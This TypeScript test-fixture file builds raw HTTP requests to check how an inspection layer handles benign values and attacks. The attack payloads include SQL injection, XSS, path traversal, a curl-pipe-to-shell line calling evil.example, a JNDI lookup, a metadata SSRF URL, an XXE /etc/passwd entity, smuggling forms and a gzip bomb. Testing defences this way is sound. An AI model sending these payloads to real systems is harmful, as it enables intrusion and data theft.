import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib'

/** One request as bytes on the wire. */
export type ConformanceCase = {
  readonly title: string
  readonly bytes: Buffer
  /** False where a body parser in front refuses the request itself or loses what the verdict rests on. */
  readonly isForParsers: boolean
}

const benign = [
  'hello',
  'Anna-Lena Müller',
  '2026-11-23T10:00:00Z',
  "O'Brien & Sons",
  'select a table from the union catalogue',
  'a@b.example',
  '{"not":"json field"}',
  '100% cotton, 3 < 5',
]
const attacks = [
  "1' UNION SELECT username, password FROM users--",
  "' OR '1'='1",
  '1; DROP TABLE orders; --',
  '<script>alert(document.cookie)</script>',
  '"><img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '; cat /etc/passwd',
  '$(curl http://evil.example/x.sh | sh)',
  '{{7*7}}{{config.items()}}',
  '\u0024{jndi:ldap://evil.example/a}',
  'http://169.254.169.254/latest/meta-data/',
  '*)(uid=*))(|(uid=*',
  'x\r\nSet-Cookie: admin=1',
  'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==',
]

type Framing = 'length' | 'chunked'
type Parts = {
  readonly line?: string
  readonly headers?: readonly string[]
  readonly body?: Buffer | string | null
  readonly framing?: Framing
}

function wire({ line = 'GET / HTTP/1.1', headers = [], body = null, framing = 'length' }: Parts): Buffer {
  const bytes = body === null ? null : Buffer.from(body)
  const lines = [line, 'Host: api.test', 'Connection: close', ...headers]
  if (bytes !== null)
    lines.push(framing === 'length' ? `Content-Length: ${bytes.length}` : 'Transfer-Encoding: chunked')
  const head = Buffer.from(`${lines.join('\r\n')}\r\n\r\n`, 'latin1')
  if (bytes === null) return head
  return Buffer.concat([head, framing === 'length' ? bytes : chunks(bytes)])
}

/** Uneven chunks, so that values are torn apart. */
function chunks(bytes: Buffer): Buffer {
  const parts: Buffer[] = []
  for (let at = 0, size = 1; at < bytes.length; at += size, size += 3) {
    const piece = bytes.subarray(at, at + size)
    parts.push(Buffer.from(`${piece.length.toString(16)}\r\n`), piece, Buffer.from('\r\n'))
  }
  return Buffer.concat([...parts, Buffer.from('0\r\n\r\n')])
}

const encode = encodeURIComponent
const json = 'Content-Type: application/json'
const form = 'Content-Type: application/x-www-form-urlencoded'
const multipart = 'Content-Type: multipart/form-data; boundary=XX'
const post = 'POST /orders HTTP/1.1'
const part = (disposition: string, text: string) =>
  `--XX\r\nContent-Disposition: form-data; ${disposition}\r\n\r\n${text}\r\n--XX--\r\n`
const xmlText = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;')

/** Where a value can stand in a request. */
const places: readonly (readonly [name: string, make: (value: string) => Parts])[] = [
  ['query', (value) => ({ line: `GET /search?page=2&q=${encode(value)} HTTP/1.1` })],
  ['path', (value) => ({ line: `GET /items/${encode(value)} HTTP/1.1` })],
  ['cookie', (value) => ({ headers: [`Cookie: theme=dark; pref=${encode(value)}`] })],
  ['header', (value) => ({ headers: [`X-Search: ${value.replaceAll(/[\r\n]/g, ' ')}`] })],
  ['JSON', (value) => ({ line: post, headers: [json], body: JSON.stringify({ id: 7, note: value }) })],
  [
    'chunked JSON',
    (value) => ({ line: post, headers: [json], body: JSON.stringify([{ note: value }]), framing: 'chunked' }),
  ],
  [
    'deep JSON',
    (value) => ({ line: post, headers: [json], body: JSON.stringify({ a: { b: [{ c: { d: value } }] } }) }),
  ],
  ['JSON key', (value) => ({ line: post, headers: [json], body: JSON.stringify({ [value]: 1 }) })],
  [
    'gzip JSON',
    (value) => ({
      line: post,
      headers: [json, 'Content-Encoding: gzip'],
      body: gzipSync(JSON.stringify({ a: value })),
    }),
  ],
  ['form', (value) => ({ line: post, headers: [form], body: `a=1&note=${encode(value)}` })],
  ['chunked form', (value) => ({ line: post, headers: [form], body: `note=${encode(value)}&b=2`, framing: 'chunked' })],
  [
    'deflate form',
    (value) => ({ line: post, headers: [form, 'Content-Encoding: deflate'], body: deflateSync(`n=${encode(value)}`) }),
  ],
  [
    'brotli form',
    (value) => ({
      line: post,
      headers: [form, 'Content-Encoding: br'],
      body: brotliCompressSync(`n=${encode(value)}`),
    }),
  ],
  ['text', (value) => ({ line: post, headers: ['Content-Type: text/plain'], body: value })],
  ['multipart field', (value) => ({ line: post, headers: [multipart], body: part('name="note"', value) })],
  [
    'multipart file name',
    (value) => ({ line: post, headers: [multipart], body: part(`name="f"; filename="${encode(value)}"`, 'x') }),
  ],
  [
    'XML',
    (value) => ({ line: post, headers: ['Content-Type: application/xml'], body: `<o><n>${xmlText(value)}</n></o>` }),
  ],
]

const nested = (depth: number) => `${'['.repeat(depth)}1${']'.repeat(depth)}`

/** Requests whose form is the point. */
const forms: readonly (readonly [title: string, bytes: Buffer, isForParsers: boolean])[] = [
  ...['HEAD', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'PROPFIND', 'TRACE', 'TRACK', 'SEARCH', 'REPORT'].map(
    (method) => [`method ${method}`, wire({ line: `${method} /orders/7 HTTP/1.1` }), true] as const,
  ),
  ...[5, 31, 33, 60, 250, 2_000].map(
    (depth) => [`JSON ${depth} deep`, wire({ line: post, headers: [json], body: nested(depth) }), true] as const,
  ),
  ...['{', '{"a":}', '[1,]', '{"a":1}}', 'nul', "{'a':1}", '{"a":NaN}', '\ufeff{"a":1}', '{"a":1,"a":2}'].map(
    (body) => [`JSON ${body}`, wire({ line: post, headers: [json], body }), false] as const,
  ),
  ...['application/JSON', 'application/vnd.api+json', 'text/json', 'application/json; charset=utf-8', ''].map(
    (type) =>
      [
        `JSON as "${type}"`,
        wire({ line: post, headers: [`Content-Type: ${type}`], body: '{"a":"<script>alert(1)</script>"}' }),
        true,
      ] as const,
  ),
  ...[
    'image/png',
    'application/octet-stream',
    'application/pdf',
    'nonsense',
    'a/b/c',
    'text/html',
    'application/graphql',
  ].map(
    (type) =>
      [
        `body as ${type}`,
        wire({ line: post, headers: [`Content-Type: ${type}`], body: "1' UNION SELECT a, b FROM users--" }),
        true,
      ] as const,
  ),
  ['body without a type', wire({ line: post, body: '<script>alert(1)</script>' }), true],
  ['empty body', wire({ line: post, headers: [json], body: '' }), true],
  ['empty chunked body', wire({ line: post, headers: [json], body: '', framing: 'chunked' }), false],
  ['GET with a body', wire({ headers: [json], body: '{"a":1}' }), true],
  ['odd bytes in JSON', wire({ line: post, headers: [json], body: Buffer.from('{"a":"\xff\xfe"}', 'latin1') }), false],
  ['odd bytes in a form', wire({ line: post, headers: [form], body: Buffer.from('a=\xff%ff%c0%af', 'latin1') }), false],
  [
    'odd bytes in text',
    wire({ line: post, headers: ['Content-Type: text/plain'], body: Buffer.from([0, 1, 2, 255]) }),
    false,
  ],
  ['odd bytes in a header', wire({ headers: ['X-Odd: \xff\xfe\x80'] }), true],
  ['odd bytes in a cookie', wire({ headers: ['Cookie: a=\xff; =; ;;; b'] }), true],
  ['bad escapes', wire({ line: 'GET /%zz%/%?a=%&b=%u0041&%=% HTTP/1.1' }), true],
  ['NUL escaped', wire({ line: 'GET /a%00b?c=%00 HTTP/1.1' }), true],
  ['double slashes', wire({ line: 'GET //a///b/./c/../d HTTP/1.1' }), true],
  ['repeated parameters', wire({ line: 'GET /?a=1&a=2&a[]=3&a=%27%20OR%201=1-- HTTP/1.1' }), true],
  ['repeated cookies', wire({ headers: ['Cookie: a=1', 'Cookie: a=2'] }), true],
  ['repeated headers', wire({ headers: ['X-A: 1', 'X-A: 2', 'Accept: a', 'Accept: b'] }), true],
  ['repeated Host', wire({ headers: ['Host: other.test'] }), true],
  ['repeated Content-Type', wire({ line: post, headers: [json, form], body: 'a=1' }), false],
  ['long parameter name', wire({ line: `GET /?${'n'.repeat(400)}=1 HTTP/1.1` }), true],
  [
    'many parameters',
    wire({ line: `GET /?${Array.from({ length: 900 }, (_, index) => `p${index}=1`).join('&')} HTTP/1.1` }),
    true,
  ],
  ['too many headers', wire({ headers: Array.from({ length: 150 }, (_, index) => `X-${index}: 1`) }), true],
  [
    'text beyond the limit',
    wire({ line: post, headers: ['Content-Type: text/plain'], body: 'a'.repeat(1_100_000) }),
    false,
  ],
  [
    'chunked JSON beyond the limit',
    wire({ line: post, headers: [json], body: `"${'a'.repeat(1_100_000)}"`, framing: 'chunked' }),
    false,
  ],
  [
    'gzip bomb',
    wire({ line: post, headers: [json, 'Content-Encoding: gzip'], body: gzipSync(Buffer.alloc(3_000_000)) }),
    false,
  ],
  ['damaged gzip', wire({ line: post, headers: [json, 'Content-Encoding: gzip'], body: 'not gzip' }), false],
  ['unknown encoding', wire({ line: post, headers: [json, 'Content-Encoding: rot13'], body: '{}' }), false],
  [
    'multipart without end',
    wire({ line: post, headers: [multipart], body: '--XX\r\nContent-Disposition: form-data; name="a"\r\n\r\nx' }),
    true,
  ],
  [
    'multipart without boundary',
    wire({ line: post, headers: ['Content-Type: multipart/form-data'], body: part('name="a"', 'x') }),
    true,
  ],
  [
    'multipart with repeated names',
    wire({ line: post, headers: [multipart], body: part('name="a"; name="b"', 'x') }),
    true,
  ],
  [
    'XML with a DOCTYPE',
    wire({
      line: post,
      headers: ['Content-Type: text/xml'],
      body: '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    }),
    true,
  ],
  ['XML cut off', wire({ line: post, headers: ['Content-Type: text/xml'], body: '<a><b>' }), true],
  ['prototype pollution', wire({ line: post, headers: [json], body: '{"__proto__":{"isAdmin":true}}' }), false],
  ['NoSQL operator', wire({ line: post, headers: [json], body: '{"user":{"$ne":null},"pass":{"$gt":""}}' }), true],
  ['scanner user agent', wire({ headers: ['User-Agent: sqlmap/1.7'] }), true],
  ['underscore alias', wire({ line: post, headers: ['Transfer_Encoding: chunked'], body: 'a' }), false],
  ['Connection naming Host', wire({ headers: ['Connection: host'] }), true],
  ['absolute URI', wire({ line: 'GET http://api.test/a?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1' }), true],
  ['absolute URI of another host', wire({ line: 'GET http://other.test/ HTTP/1.1' }), true],
  ['fragment', wire({ line: 'GET /a#b HTTP/1.1' }), true],
  ['backslash', wire({ line: 'GET /a\\b HTTP/1.1' }), true],
  ['CL with TE', wire({ line: post, headers: ['Transfer-Encoding: chunked'], body: 'a' }), true],
  ['TE list', wire({ line: post, headers: ['Transfer-Encoding: gzip, chunked'] }), true],
  ['bare LF', Buffer.from('GET / HTTP/1.1\nHost: a\n\n'), true],
  ['folded header', wire({ headers: ['X-A: 1', ' 2'] }), true],
  [
    'bad chunk size',
    Buffer.concat([wire({ line: post, headers: ['Transfer-Encoding: chunked'] }), Buffer.from('zz\r\n\r\n')]),
    false,
  ],
]

function placed(values: readonly string[], kind: string): ConformanceCase[] {
  return values.flatMap((value) =>
    places.map(([place, make]) => {
      const parts = make(value)
      // Express 4 comes with a parser that knows no brotli.
      const isForParsers = place !== 'brotli form'
      return { title: `${kind} ${JSON.stringify(value)} in ${place}`, bytes: wire(parts), isForParsers }
    }),
  )
}

export const conformanceCases: readonly ConformanceCase[] = [
  ...placed(benign, 'benign'),
  ...placed(attacks, 'attack'),
  ...forms.map(([title, bytes, isForParsers]) => ({ title, bytes, isForParsers })),
]
